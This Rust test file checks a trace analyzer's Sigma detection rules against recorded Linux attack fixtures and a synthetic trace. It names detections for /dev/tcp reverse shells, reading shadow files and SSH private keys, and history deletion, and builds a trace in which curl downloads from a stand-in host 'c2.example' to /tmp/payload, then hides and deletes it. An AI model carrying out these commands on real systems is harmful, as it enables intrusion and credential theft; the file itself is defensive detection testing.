//! Sigma rules: the public-style Linux rules in `fixtures/sigma` evaluated on every
//! recorded fixture with the exact findings written down, the rules that cannot be
//! evaluated listed with their reasons, malformed files, and the field mapping checked
//! field by field on a synthetic trace.

mod common;

use common::*;
use rewind_analyzer::detect::rule::Severity;
use rewind_analyzer::detect::sigma::event::FIELDS;
use rewind_analyzer::detect::sigma::SigmaRules;
use rewind_analyzer::detect::{Detector, Finding};
use rewind_analyzer::replay::{replay, ReplayOptions};
use rewind_schema::builder::TraceBuilder;
use rewind_schema::trace::TraceSet;
use rewind_schema::wire::{self, Sock};
use rewind_schema::EventKind;
use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

fn sigma_dir() -> PathBuf {
    root().join("fixtures/sigma")
}

fn run(trace: &Path, rules: SigmaRules) -> Vec<Finding> {
    let set = TraceSet::open(&[trace]).expect("open trace");
    let anchors = set.recordings.iter().map(|r| r.anchor).collect();
    let mut det = Detector::new(Vec::new(), Some(Box::new(rules)), anchors);
    replay(&set, &mut [&mut det], ReplayOptions::default()).expect("replay");
    det.into_findings()
}

fn stem(source: &str) -> String {
    Path::new(source)
        .file_stem()
        .map(|s| s.to_string_lossy().into_owned())
        .unwrap_or_default()
}

/// (rule file stem, process) of every Sigma finding on a fixture.
fn fixture_hits(name: &str) -> BTreeSet<(String, String)> {
    let rules = SigmaRules::load_dir(&sigma_dir()).expect("load fixtures/sigma");
    let trace = root().join(format!("fixtures/{name}.zst"));
    run(&trace, rules)
        .into_iter()
        .map(|f| (stem(&f.rule.source), f.process))
        .collect()
}

fn check_fixture(name: &str, expected: &[(&str, &str)]) {
    let got = fixture_hits(name);
    let want: BTreeSet<(String, String)> = expected
        .iter()
        .map(|(r, p)| (r.to_string(), p.to_string()))
        .collect();
    if got != want {
        let fmt = |s: &BTreeSet<(String, String)>| {
            s.iter()
                .map(|(r, p)| format!("    ({r:?}, {p:?}),"))
                .collect::<Vec<_>>()
                .join("\n")
        };
        panic!(
            "{name}: Sigma findings differ\n  missing:\n{}\n  unexpected:\n{}",
            fmt(&want.difference(&got).cloned().collect()),
            fmt(&got.difference(&want).cloned().collect())
        );
    }
}

#[test]
fn fixture_rules_load_and_count() {
    let set = SigmaRules::load_dir(&sigma_dir()).expect("load");
    assert!(set.len() >= 20, "only {} Sigma rules evaluated", set.len());
    assert_eq!(set.len(), 27);
}

#[test]
fn unevaluable_rules_are_listed_with_reasons() {
    let set = SigmaRules::load_dir(&sigma_dir()).expect("load");
    let skipped: Vec<(String, String)> = set
        .skipped()
        .iter()
        .map(|(p, why)| {
            let p = p
                .strip_prefix(&sigma_dir().display().to_string())
                .unwrap_or(p);
            (p.to_string(), why.clone())
        })
        .collect();
    let has = |file: &str, reason: &str| {
        assert!(
            skipped
                .iter()
                .any(|(p, why)| p.contains(file) && why.contains(reason)),
            "no skip of {file} with {reason:?} in {skipped:#?}"
        )
    };
    has("lnx_auditd_shadow_access.yml", "service \"auditd\"");
    has("win_whoami_execution.yml", "product \"windows\"");
    has("lnx_correlation_many_discovery.yml", "correlation rule");
    has(
        "proc_creation_lnx_known_bad_hash.yml",
        "field \"Hashes\" has no mapping for process_creation",
    );
    assert_eq!(skipped.len(), 4, "{skipped:#?}");
    // The path names the rule too.
    assert!(skipped
        .iter()
        .any(|(p, _)| p.ends_with("(Shadow File Access Via Auditd)")));
}

#[test]
fn reverse_shell() {
    check_fixture(
        "reverse-shell",
        &[
            ("proc_creation_lnx_bash_dev_tcp_reverse_shell", "sh[16032]"),
            (
                "proc_creation_lnx_bash_dev_tcp_reverse_shell",
                "bash[16033]",
            ),
            ("proc_creation_lnx_bash_interactive_shell", "bash[16033]"),
            ("proc_creation_lnx_interpreter_spawn_shell", "sh[16032]"),
            ("net_connection_lnx_shell_connection", "bash[16033]"),
            ("net_connection_lnx_reverse_shell_port", "bash[16033]"),
            ("net_connection_lnx_reverse_shell_port", "python3[16029]"),
            ("proc_creation_lnx_user_discovery", "id[16034]"),
            ("proc_creation_lnx_uname_system_info", "uname[16035]"),
            ("proc_creation_lnx_passwd_discovery", "cat[16036]"),
            ("file_delete_lnx_history_file", "rm[16041]"),
        ],
    );
}

#[test]
fn sensitive_files() {
    check_fixture(
        "sensitive-files",
        &[
            (
                "proc_creation_lnx_ssh_keygen_empty_passphrase",
                "ssh-keygen[16065]",
            ),
            ("proc_creation_lnx_cat_shadow", "cat[16066]"),
            ("proc_creation_lnx_passwd_discovery", "head[16067]"),
            ("proc_creation_lnx_passwd_discovery", "cat[16068]"),
            ("proc_creation_lnx_cat_ssh_private_key", "cat[16070]"),
            ("proc_creation_lnx_docker_socket_discovery", "ls[16072]"),
            ("proc_creation_lnx_docker_socket_discovery", "ls[16073]"),
        ],
    );
}

#[test]
fn persistence() {
    check_fixture(
        "persistence",
        &[
            ("file_event_lnx_shell_profile_modification", "bash[15989]"),
            ("file_event_lnx_shell_profile_modification", "bash[15995]"),
            ("file_event_lnx_cron_files", "tee[15993]"),
            (
                "proc_creation_lnx_ssh_keygen_empty_passphrase",
                "ssh-keygen[15998]",
            ),
            ("file_event_lnx_ssh_authorized_keys", "bash[15999]"),
        ],
    );
}

#[test]
fn setuid_escalation() {
    check_fixture(
        "setuid-escalation",
        &[
            ("proc_creation_lnx_chmod_setuid", "chmod[16109]"),
            ("proc_creation_lnx_exec_from_tmp", "id-suid[16110]"),
            ("proc_creation_lnx_exec_from_tmp", "env-suid[16111]"),
            // env-suid execs /usr/bin/id in the same process; setpriv execs id -u;
            // python forks and execv's id -u. id-suid (a copy of id) is not named id.
            ("proc_creation_lnx_user_discovery", "id[16111]"),
            ("proc_creation_lnx_user_discovery", "id[16112]"),
            ("proc_creation_lnx_user_discovery", "id[16114]"),
        ],
    );
}

#[test]
fn memfd_exec() {
    check_fixture(
        "memfd-exec",
        &[("proc_creation_lnx_fileless_execution", "3[15969]")],
    );
}

#[test]
fn lateral_movement() {
    check_fixture(
        "lateral-movement",
        &[
            ("proc_creation_lnx_interpreter_spawn_shell", "sh[15940]"),
            ("proc_creation_lnx_curl_wget_download_tmp", "curl[15941]"),
            ("proc_creation_lnx_curl_upload", "curl[15942]"),
        ],
    );
}

#[test]
fn http_redirect_tls() {
    check_fixture(
        "http-redirect-tls",
        &[
            ("proc_creation_lnx_curl_wget_download_tmp", "curl[15897]"),
            ("proc_creation_lnx_curl_wget_download_tmp", "curl[15903]"),
        ],
    );
}

#[test]
fn container() {
    check_fixture("container", &[]);
}

#[test]
fn benign_build_has_no_high_or_critical_sigma_findings() {
    let rules = SigmaRules::load_dir(&sigma_dir()).expect("load");
    let f = run(&root().join("fixtures/benign-build.zst"), rules);
    let loud: Vec<String> = f
        .iter()
        .filter(|f| f.rule.severity >= Severity::High)
        .map(|f| format!("{} {} {}", f.rule.id, f.rule.title, f.process))
        .collect();
    assert!(loud.is_empty(), "{loud:#?}");
    check_fixture("benign-build", &[]);
    check_fixture("package-manager", &[]);
}

#[test]
fn metadata_comes_from_the_rule() {
    let set = SigmaRules::load_dir(&sigma_dir()).expect("load");
    use rewind_analyzer::detect::ExternalRules;
    let m = set
        .metas()
        .iter()
        .find(|m| m.id == "09f3de0a-46f2-4395-ba04-c84617a90ae4")
        .expect("dev/tcp rule");
    assert_eq!(m.title, "Bash Reverse Shell Via /dev/tcp");
    assert_eq!(m.severity, Severity::Critical);
    assert_eq!(m.attack, vec!["T1059.004", "T1095"]);
    assert!(m.description.starts_with("Detects a command line"));
    assert!(m
        .source
        .ends_with("fixtures/sigma/proc_creation_lnx_bash_dev_tcp_reverse_shell.yml"));
    let info = set
        .metas()
        .iter()
        .find(|m| m.title == "System Information Discovery Via Uname")
        .expect("uname rule");
    assert_eq!(info.severity, Severity::Info);
}

#[test]
fn malformed_file_is_listed_and_the_rest_still_load() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(
        dir.path().join("good.yml"),
        rule("process_creation", "Image|endswith: '/id'"),
    )
    .expect("write");
    std::fs::write(
        dir.path().join("broken.yml"),
        "title: [unclosed\n  detection: {",
    )
    .expect("write");
    std::fs::write(
        dir.path().join("nodetection.yaml"),
        "title: No detection\nlogsource:\n    product: linux\n",
    )
    .expect("write");
    let set = SigmaRules::load_dir(dir.path()).expect("load");
    assert_eq!(set.len(), 1);
    let sk = set.skipped();
    assert_eq!(sk.len(), 2, "{sk:#?}");
    assert!(sk[0].0.ends_with("broken.yml"), "{sk:#?}");
    assert!(sk[0].1.contains("YAML"), "{sk:#?}");
    assert!(sk[1].0.ends_with("nodetection.yaml"), "{sk:#?}");
    // A directory that does not exist is an error naming it.
    let err = SigmaRules::load_dir(&dir.path().join("nope")).expect_err("missing dir");
    assert!(err.to_string().contains("nope"), "{err}");
}

#[test]
fn duplicate_ids_are_listed() {
    let dir = tempfile::tempdir().expect("tempdir");
    for f in ["a.yml", "b.yml"] {
        std::fs::write(
            dir.path().join(f),
            rule("process_creation", "Image|endswith: '/id'"),
        )
        .expect("write");
    }
    let set = SigmaRules::load_dir(dir.path()).expect("load");
    assert_eq!(set.len(), 1);
    let sk = set.skipped();
    assert_eq!(sk.len(), 1, "{sk:#?}");
    assert!(sk[0].0.contains("b.yml (Field test)"), "{sk:#?}");
    assert!(sk[0].1.contains("is also defined by") && sk[0].1.ends_with("a.yml"));
}

#[test]
fn detect_cli_prints_notes_for_skipped_rules() {
    let out = analyzer(&[
        "detect",
        "-q",
        "--sigma",
        "fixtures/sigma",
        "fixtures/memfd-exec.zst",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    let stdout = text(&out.stdout);
    assert!(
        err.contains("not evaluated: log source service \"auditd\""),
        "{err}"
    );
    assert!(
        stdout.contains("e9d8cf61-e850-48d6-b29a-41bebc36cf6b  Fileless Execution"),
        "{stdout}"
    );
}

#[test]
fn rules_list_includes_sigma_rules() {
    let out = analyzer(&["rules", "list", "--sigma", "fixtures/sigma"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("09f3de0a-46f2-4395-ba04-c84617a90ae4 critical T1059.004,T1095"),
        "{stdout}"
    );
    assert!(text(&out.stderr).contains("Whoami Utility Execution On Windows"));
}

// ---- the field mapping, one field at a time, on a synthetic trace ----

const MS: u64 = 1_000_000;

fn addr(s: &str) -> SocketAddr {
    s.parse().expect("addr")
}

fn dns_reply() -> Vec<u8> {
    use simple_dns::{rdata::RData, Name, Packet, Question, ResourceRecord, CLASS, QCLASS};
    let mut p = Packet::new_reply(9);
    p.questions.push(Question::new(
        Name::new_unchecked("c2.example"),
        simple_dns::TYPE::A.into(),
        QCLASS::CLASS(CLASS::IN),
        false,
    ));
    p.answers.push(ResourceRecord::new(
        Name::new_unchecked("c2.example"),
        CLASS::IN,
        60,
        RData::A(simple_dns::rdata::A {
            address: u32::from(std::net::Ipv4Addr::new(203, 0, 113, 7)),
        }),
    ));
    p.build_bytes_vec().expect("dns")
}

/// User 1000's login shell (`bash -l`, pid 500) runs curl (pid 600), which resolves
/// c2.example, connects to it on 443 from 10.0.0.2:40000, writes /tmp/payload, reads
/// /etc/hosts, renames /tmp/payload to /tmp/.hidden and deletes it. A root web server
/// (pid 700) accepts a connection on [2001:db8::2]:8080 from [2001:db8::5]:51000.
fn synthetic() -> &'static Path {
    static TRACE: OnceLock<PathBuf> = OnceLock::new();
    TRACE.get_or_init(|| {
        let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("sigma-fields");
        std::fs::create_dir_all(&dir).expect("dir");
        let path = dir.join(format!("fields-{}.zst", std::process::id()));
        let mut b = TraceBuilder::new(&path)
            .existing(1, 0, "/sbin/init", &["/sbin/init"], 0)
            .existing(500, 1, "/bin/bash", &["bash", "-l"], 1000)
            .existing(
                700,
                1,
                "/usr/bin/python3",
                &["python3", "-m", "http.server", "8080"],
                0,
            )
            .create()
            .expect("builder");
        let t = b.start_ns() + 1_000 * MS;
        b.fork(t, 500, 600).expect("fork");
        b.exec(
            t + MS,
            600,
            500,
            "/usr/bin/curl",
            &["curl", "-s", "http://c2.example/x", "-o", "/tmp/payload"],
        )
        .expect("exec");
        let me = addr("10.0.0.2:5353");
        let resolver = addr("10.0.0.53:53");
        let data = dns_reply();
        let s = wire::Snippet {
            sock: Sock::udp(9, me, resolver),
            total_len: data.len() as u32,
            flags: wire::net::SNIPPET_INBOUND,
            data: wire::Payload(data),
        };
        b.event(t + 2 * MS, 600, EventKind::Dns(s)).expect("dns");
        b.connect(
            t + 3 * MS,
            600,
            10,
            addr("10.0.0.2:40000"),
            addr("203.0.113.7:443"),
            0,
        )
        .expect("connect");
        b.open(t + 4 * MS, 600, "/tmp/payload", 0o1101, 3)
            .expect("open");
        b.open(t + 5 * MS, 600, "/etc/hosts", 0, 4).expect("open");
        let r = wire::Rename {
            old: "/tmp/payload".into(),
            new: "/tmp/.hidden".into(),
            ..Default::default()
        };
        b.event(t + 6 * MS, 600, EventKind::Rename(r))
            .expect("rename");
        let u = wire::Unlink {
            path: "/tmp/.hidden".into(),
            ..Default::default()
        };
        b.event(t + 7 * MS, 600, EventKind::Unlink(u))
            .expect("unlink");
        b.accept(
            t + 8 * MS,
            700,
            20,
            addr("[2001:db8::2]:8080"),
            addr("[2001:db8::5]:51000"),
        )
        .expect("accept");
        b.exit(t + 9 * MS, 600, 0).expect("exit");
        b.finish().expect("finish");
        path
    })
}

/// A rule of `category` whose selection is `item` (one `Field|mod: value` line).
fn rule(category: &str, item: &str) -> String {
    format!(
        "title: Field test\nid: 56b38bc8-6ac4-4590-913b-5204c6cc986c\nlogsource:\n    \
         product: linux\n    category: {category}\ndetection:\n    selection:\n        \
         {item}\n    condition: selection\nlevel: high\n"
    )
}

/// The processes a one-item rule finds on the synthetic trace.
fn hits(category: &str, item: &str) -> Vec<String> {
    let rules = SigmaRules::load_str(&rule(category, item), "test.yml");
    assert!(rules.skipped().is_empty(), "{:?}", rules.skipped());
    assert_eq!(rules.len(), 1);
    run(synthetic(), rules)
        .into_iter()
        .map(|f| f.process)
        .collect()
}

macro_rules! field {
    ($test:ident, $cat:literal, $item:literal => [$($who:literal),*]) => {
        #[test]
        fn $test() {
            let want: Vec<&str> = vec![$($who),*];
            assert_eq!(hits($cat, $item), want, "{} on {}", $item, $cat);
        }
    };
}

field!(field_image, "process_creation", "Image: '/usr/bin/curl'" => ["curl[600]"]);
field!(field_commandline, "process_creation",
    "CommandLine: 'curl -s http://c2.example/x -o /tmp/payload'" => ["curl[600]"]);
field!(field_current_directory, "process_creation", "CurrentDirectory: '/'" => ["curl[600]"]);
field!(field_process_id, "process_creation", "ProcessId: 600" => ["curl[600]"]);
field!(field_process_guid, "process_creation", "ProcessGuid|startswith: '600@'" => ["curl[600]"]);
field!(field_user_uid, "process_creation", "User: '1000'" => ["curl[600]"]);
field!(field_user_root, "network_connection", "User: 'root'" => ["python3[700]"]);
field!(field_logon_id, "process_creation", "LogonId: 4294967295" => ["curl[600]"]);
field!(field_parent_image, "process_creation", "ParentImage: '/bin/bash'" => ["curl[600]"]);
field!(field_parent_commandline, "process_creation", "ParentCommandLine: 'bash -l'" => ["curl[600]"]);
field!(field_parent_process_id, "process_creation", "ParentProcessId: 500" => ["curl[600]"]);
field!(field_parent_process_guid, "process_creation",
    "ParentProcessGuid|startswith: '500@'" => ["curl[600]"]);
field!(field_target_filename_open, "file_event", "TargetFilename: '/tmp/payload'" => ["curl[600]"]);
field!(field_target_filename_rename, "file_event", "TargetFilename: '/tmp/.hidden'" => ["curl[600]"]);
field!(field_source_filename, "file_event", "SourceFilename: '/tmp/payload'" => ["curl[600]"]);
field!(field_read_is_not_a_file_event, "file_event", "TargetFilename: '/etc/hosts'" => []);
field!(field_target_filename_delete, "file_delete", "TargetFilename: '/tmp/.hidden'" => ["curl[600]"]);
field!(field_file_event_image, "file_event", "Image|endswith: '/curl'" => ["curl[600]"]);
field!(field_initiated_true, "network_connection", "Initiated: 'true'" => ["curl[600]"]);
field!(field_initiated_false, "network_connection", "Initiated: 'false'" => ["python3[700]"]);
field!(field_protocol, "network_connection", "Protocol: 'tcp'" => ["curl[600]", "python3[700]"]);
field!(field_destination_ip, "network_connection", "DestinationIp: '203.0.113.7'" => ["curl[600]"]);
field!(field_destination_ip_cidr, "network_connection",
    "DestinationIp|cidr: '2001:db8::/32'" => ["python3[700]"]);
field!(field_destination_port, "network_connection", "DestinationPort: 443" => ["curl[600]"]);
field!(field_destination_port_accept, "network_connection", "DestinationPort: 8080" => ["python3[700]"]);
field!(field_destination_hostname, "network_connection",
    "DestinationHostname: 'c2.example'" => ["curl[600]"]);
field!(field_source_ip, "network_connection", "SourceIp: '10.0.0.2'" => ["curl[600]"]);
field!(field_source_ip_accept, "network_connection", "SourceIp: '2001:db8::5'" => ["python3[700]"]);
field!(field_source_port, "network_connection", "SourcePort: 40000" => ["curl[600]"]);
field!(field_source_port_accept, "network_connection", "SourcePort: 51000" => ["python3[700]"]);
field!(field_source_hostname, "network_connection", "SourceHostname|exists: true" => []);
field!(field_source_is_ipv6, "network_connection", "SourceIsIpv6: 'true'" => ["python3[700]"]);
field!(field_destination_is_ipv6, "network_connection",
    "DestinationIsIpv6: 'false'" => ["curl[600]"]);
field!(field_network_parent, "network_connection", "ParentImage: '/bin/bash'" => ["curl[600]"]);
field!(field_contains_all, "process_creation",
    "CommandLine|contains|all: ['c2.example', '-o']" => ["curl[600]"]);

#[test]
fn keyword_detection_searches_mapped_fields() {
    let yaml = "title: Keywords\nid: kw\nlogsource:\n    product: linux\n    category: \
                process_creation\ndetection:\n    keywords:\n        - 'c2.example'\n    \
                condition: keywords\nlevel: low\n";
    let rules = SigmaRules::load_str(yaml, "kw.yml");
    assert!(rules.skipped().is_empty(), "{:?}", rules.skipped());
    let f: Vec<String> = run(synthetic(), rules)
        .into_iter()
        .map(|f| f.process)
        .collect();
    assert_eq!(f, vec!["curl[600]"]);
}

#[test]
fn unmapped_field_and_category_are_reasons() {
    let r = SigmaRules::load_str(&rule("process_creation", "OriginalFileName: 'x'"), "a.yml");
    assert_eq!(r.len(), 0);
    assert!(r.skipped()[0]
        .1
        .contains("\"OriginalFileName\" has no mapping"));
    let r = SigmaRules::load_str(&rule("file_event", "DestinationIp: '1.2.3.4'"), "a.yml");
    assert!(r.skipped()[0].1.contains("no mapping for file_event"));
    let r = SigmaRules::load_str(&rule("dns_query", "QueryName: 'x'"), "a.yml");
    assert!(r.skipped()[0]
        .1
        .contains("category \"dns_query\" has no mapping"));
    let r = SigmaRules::load_str(&rule("process_creation", "Image|expand: '%x%'"), "a.yml");
    assert!(r.skipped()[0].1.contains("expand"), "{:?}", r.skipped());
}

#[test]
fn every_mapped_field_is_documented() {
    let doc = std::fs::read_to_string(root().join("analyzer/rules/README.md")).expect("readme");
    for f in FIELDS {
        assert!(
            doc.contains(&format!("| `{f}` |")),
            "{f} missing from the Sigma table"
        );
    }
}
